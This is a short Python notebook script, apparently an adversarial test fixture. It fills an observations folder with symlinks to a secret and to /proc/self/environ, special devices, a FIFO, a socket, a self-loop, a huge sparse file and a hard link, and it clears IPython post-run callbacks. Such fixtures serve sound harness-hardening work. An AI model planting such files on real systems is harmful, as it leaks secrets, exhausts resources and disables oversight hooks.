# %%
import json
import os
from pathlib import Path

get_ipython().events.callbacks["post_run_cell"].clear()
folder = Path("../observations")

def link(name, target):
    (folder / f"{name}.json").symlink_to(target)


link("convolved_features", "{SECRET}")
link("pooled_features", "/dev/zero")
link("output_dim_1", "/proc/self/environ")
try:
    os.mkfifo(folder / "output_dim_2.json")
except OSError:
    (folder / "output_dim_2.json").symlink_to("/dev/tty")
(folder / "output_dim_3.json").mkdir()
link("output_dim_4", folder / "output_dim_4.json")
with (folder / "output_dim_5.json").open("wb") as file:
    file.truncate(400_000_000)
# %%
import socket

listener = socket.socket(socket.AF_UNIX)
listener.bind(str(folder / "net_conv.json"))
try:
    os.link("{SECRET}", folder / "linked.json")
    print("MALLORY" "-WON")
except OSError:
    pass
